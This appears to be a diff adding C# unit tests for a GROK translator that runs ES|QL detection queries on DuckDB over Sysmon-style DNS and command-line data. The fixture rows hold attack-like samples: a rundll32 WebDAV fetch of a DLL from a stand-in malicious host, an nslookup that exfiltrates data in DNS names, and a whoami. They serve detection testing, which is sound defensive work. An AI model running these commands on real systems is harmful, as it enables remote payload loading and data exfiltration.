@@ -1,0 +1,128 @@
+using System.Globalization;
+using DuckDB.NET.Data;
+using FluentAssertions;
+using Sysmon.Queries.Esql;
+using Xunit;
+
+namespace Sysmon.Queries.Tests;
+
+/// <summary>GROK on the embedded store, with the patterns of Elastic's own ES|QL rules over Sysmon DNS queries and
+/// command lines (DNS to RMM vendors, WebDAV destinations, data sent out in DNS names).</summary>
+public sealed class GrokTests : IDisposable
+{
+    private readonly DuckDBConnection _db = new("Data Source=:memory:");
+    private static readonly string[] Columns = ["dns.question.name", "process.command_line", "process.args"];
+
+    public GrokTests()
+    {
+        _db.Open();
+        using var cmd = _db.CreateCommand();
+        cmd.CommandText = """
+            CREATE TABLE t ("dns.question.name" VARCHAR, "process.command_line" VARCHAR, "process.args" VARCHAR[]);
+            INSERT INTO t VALUES
+              ('relay.eu.anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie files.evil-cdn.net@SSL https://alice@Files.Evil-CDN.net:8443/share/a.dll', ['rundll32.exe']),
+              ('anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie 10.1.2.3 http://10.1.2.3/DavWWWRoot', ['rundll32.exe']),
+              ('12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', 'nslookup 12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', ['nslookup.exe']),
+              (NULL, 'cmd.exe /c whoami', ['cmd.exe', '/c', 'whoami']);
+            """;
+        cmd.ExecuteNonQuery();
+    }
+
+    public void Dispose() => _db.Dispose();
+
+    private static DuckDbTranslator Translator() => new(_ => new SourceTable("t", Columns, ListColumns: ["process.args"]));
+
+    private List<string> Rows(string esql)
+    {
+        using var cmd = _db.CreateCommand();
+        cmd.CommandText = Translator().Translate(esql);
+        using var r = cmd.ExecuteReader();
+        var rows = new List<string>();
+        while (r.Read())
+        {
+            rows.Add(string.Join("|", Enumerable.Range(0, r.FieldCount).Select(i => r.IsDBNull(i) ? "null" : Convert.ToString(r.GetValue(i), CultureInfo.InvariantCulture))));
+        }
+        return rows;
+    }
+
+    [Fact]
+    public void A_named_group_takes_the_parent_domain_and_is_null_where_the_pattern_does_not_match()
+    {
+        // As Elastic's "DNS to RMM domains" rule cuts it: two labels need not match, the rule falls back with COALESCE.
+        Rows(""""
+            FROM t | GROK dns.question.name """(?:[^.]+\.)+(?<parent_domain>[^.]+\.[^.]+)$"""
+            | EVAL parent = COALESCE(parent_domain, dns.question.name) | KEEP parent_domain, parent
+            """").Should().Equal("anydesk.com|anydesk.com", "null|anydesk.com", "example.org|example.org", "null|null");
+    }
+
+    [Fact]
+    public void The_webdav_server_is_found_anywhere_in_the_command_line_without_credentials_or_port()
+    {
+        Rows(""""
+            FROM t | WHERE process.command_line LIKE "*DavSetCookie*"
+            | GROK process.command_line """(?i:https?)://(?:[^/@\s]+@)?(?<Esql.server_webdav_server>[a-zA-Z0-9-]+(?:\.[a-zA-Z0-9-]+)*)"""
+            | EVAL server = TO_LOWER(Esql.server_webdav_server) | KEEP server
+            """").Should().Equal("files.evil-cdn.net", "10.1.2.3");
+    }
+
+    [Fact]
+    public void Built_in_patterns_cut_a_dns_exfiltration_name_into_index_payload_and_domain()
+    {
+        // The pattern as Elastic's "excessive DNS queries" rule writes it, \\. in an ES|QL string being \. in the regex.
+        Rows(""""
+            FROM t | GROK dns.question.name "%{INT:chunk_index}-%{DATA:chunk_payload}\\.%{GREEDYDATA:Esql.base_domain}"
+            | WHERE chunk_index IS NOT NULL | EVAL n = TO_INTEGER(chunk_index), len = LENGTH(chunk_payload) | KEEP n, len, Esql.base_domain
+            """").Should().Equal("12|28|exfil.example.org");
+    }
+
+    [Fact]
+    public void A_type_suffix_converts_and_the_new_columns_replace_old_ones_at_the_end()
+    {
+        Rows("FROM t | GROK dns.question.name \"%{INT:chunk:int}-\" | WHERE chunk IS NOT NULL | EVAL next = chunk + 1 | KEEP next").Should().Equal("13");
+        using (var cmd = _db.CreateCommand())
+        {
+            cmd.CommandText = Translator().Translate("FROM t | GROK process.command_line \"%{WORD:dns.question.name} %{NOTSPACE:rest}\" | LIMIT 1");
+            using var r = cmd.ExecuteReader();
+            Enumerable.Range(0, r.FieldCount).Select(r.GetName).Should().Equal("process.command_line", "process.args", "dns.question.name", "rest");
+        }
+        Rows("FROM t | GROK process.command_line \"%{IP:ip}\" | KEEP ip").Should().Equal("null", "10.1.2.3", "null", "null");
+        Rows("FROM t | EVAL s = \"from fe80::1 and 2001:db8::8a2e:370:7334 to ::ffff:10.0.0.1 at 2026-01-05T10:00:01.123Z\" " +
+             "| GROK s \"from %{IP:a} and %{IP:b} to %{IP:c} at %{TIMESTAMP_ISO8601:t}\" | KEEP a, b, c, t | LIMIT 1")
+            .Should().Equal("fe80::1|2001:db8::8a2e:370:7334|::ffff:10.0.0.1|2026-01-05T10:00:01.123Z");
+        Rows("FROM t | GROK process.command_line \"^%{NOTSPACE:image} %{GREEDYDATA:args}\" | KEEP image | LIMIT 1").Should().Equal("rundll32.exe");
+    }
+
+    [Theory]
+    [InlineData("FROM t | GROK process.command_line \"%{IPV5:x}\"", "GROK: %{IPV5} is not one of the * built-in patterns here (queries/README.md lists them) (did you mean 'IPV4' or 'IPV6'?)*")]
+    [InlineData("FROM t | GROK process.command_line \"(?<=x)(?<a>y)\"", "GROK: lookaround and atomic groups*not supported*RE2*")]
+    [InlineData("FROM t | GROK process.command_line \"%{WORD:a} %{WORD:a}\"", "GROK: field a is named twice*")]
+    [InlineData("FROM t | GROK process.command_line \"%{WORD:a:date}\"", "GROK: type 'date' of field a is not one of int, long, float, double, boolean*")]
+    [InlineData("FROM t | GROK process.command_line \"%{WORD}\"", "GROK: pattern '%{WORD}' names no field*")]
+    [InlineData("FROM t | GROK process.args \"%{WORD:a}\"", "GROK of a multi-valued column is not supported here: MV_EXPAND it first*")]
+    public void What_the_embedded_store_cannot_do_is_an_error_that_says_so(string esql, string message)
+    {
+        var run = () => Rows(esql);
+        run.Should().Throw<EsqlException>().WithMessage(message);
+    }
+
+    [Theory]
+    [InlineData(@"%{INT:n}", @"([+-]?[0-9]+)")]
+    [InlineData(@"(a|b)(?<x>[(]c)", @"(?:a|b)([(]c)")]
+    [InlineData(@"\(%{WORD:w}\) %{SPACE}", @"\((\b\w+\b)\) (?:\s*)")]
+    [InlineData(@"%{MAC:m}", @"((?:(?:[A-Fa-f0-9]{4}\.){2}[A-Fa-f0-9]{4})|(?:(?:[A-Fa-f0-9]{2}-){5}[A-Fa-f0-9]{2})|(?:(?:[A-Fa-f0-9]{2}:){5}[A-Fa-f0-9]{2}))")]
+    public void Only_named_captures_are_groups_in_the_regular_expression(string pattern, string regex) =>
+        GrokPattern.Parse(pattern, 0).Regex.Should().Be(regex);
+
+    [Fact]
+    public void Every_built_in_pattern_is_a_regular_expression_duckdb_accepts()
+    {
+        foreach (var name in GrokBuiltins.Definitions.Keys)
+        {
+            var regex = GrokPattern.Parse($"%{{{name}:x}}", 0).Regex;
+            using var cmd = _db.CreateCommand();
+            cmd.CommandText = $"SELECT regexp_matches('2026-01-05T10:00:00Z 10.0.0.1 fe80::1 alice@example.com', '{regex.Replace("'", "''", StringComparison.Ordinal)}')";
+            var run = () => cmd.ExecuteScalar();
+            run.Should().NotThrow(name);
+        }
+    }
+}
